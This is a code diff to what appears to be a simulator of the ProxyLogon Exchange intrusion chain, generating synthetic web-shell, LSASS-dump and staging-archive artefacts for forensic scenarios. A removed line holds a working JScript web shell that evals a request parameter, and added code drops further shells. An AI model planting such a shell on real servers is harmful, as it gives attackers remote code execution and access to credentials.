@@ -4,6 +4,7 @@ import { newReq, type EcpEvent, type Mark, type Req } from './request.js';
 import type { IndicatorKind } from './truth.js';
 import type { HttpErrLine, OabLine } from './traffic.js';
 import { CU19, type World } from './world.js';
+import { decodeShell, proxyLogonDrops } from './webshell-drops.js';
 
 /**
  * The ProxyLogon scenario (CVE-2021-26855 SSRF → CVE-2021-27065 OAB virtual directory reset → web shell → LSASS
@@ -81,7 +82,8 @@ export function planProxyLogon(input: PlanInput): AttackPlan {
   const shellWin = `C:\\inetpub\\wwwroot\\aspnet_client\\system_web\\${shellName}`;
   const secret = rng.alnum(rng.range(6, 10));
   const urlHost = rng.pick(['f', 'g', 'ffff', 'x']);
-  const script = `<script language="JScript" runat="server">function Page_Load(){eval(Request["${secret}"],"unsafe");}</script>`;
+  // Shell code stays base64 at rest (antivirus): decoded here, byte for byte the script the reset wrote.
+  const script = decodeShell('oabScript', { SECRET: secret }).trimEnd();
   const externalUrl = `http://${urlHost}/${script}`;
   const adminSid = `${host.domainSid}-500`;
   const vdirGuid = host.oabVdirGuid;
@@ -286,6 +288,9 @@ export function planProxyLogon(input: PlanInput): AttackPlan {
   const archiveRel = `ProgramData/${dumpDir.replace(/\\/g, '/')}/temp.rar`;
   const rar = Buffer.concat([Buffer.from([0x52, 0x61, 0x72, 0x21, 0x1a, 0x07, 0x01, 0x00]), rng.bytes(rng.range(2000, 5000))]);
   files.push({ rel: archiveRel, content: rar, mtime: rarTime, kind: 'archive', note: 'password-protected staging archive of the LSASS dump', ip: shellIp });
+
+  // 7. Further shell drops in the other web folders and their compiled artefacts (webshell-drops.ts).
+  files.push(...proxyLogonDrops({ world, rng, resetTime, firstShell: { rel: shellRel, name: shellName }, stopBefore: input.stopBefore, ip: shellIp }));
 
   reqs.sort((a, b) => a.t - b.t);
   return {
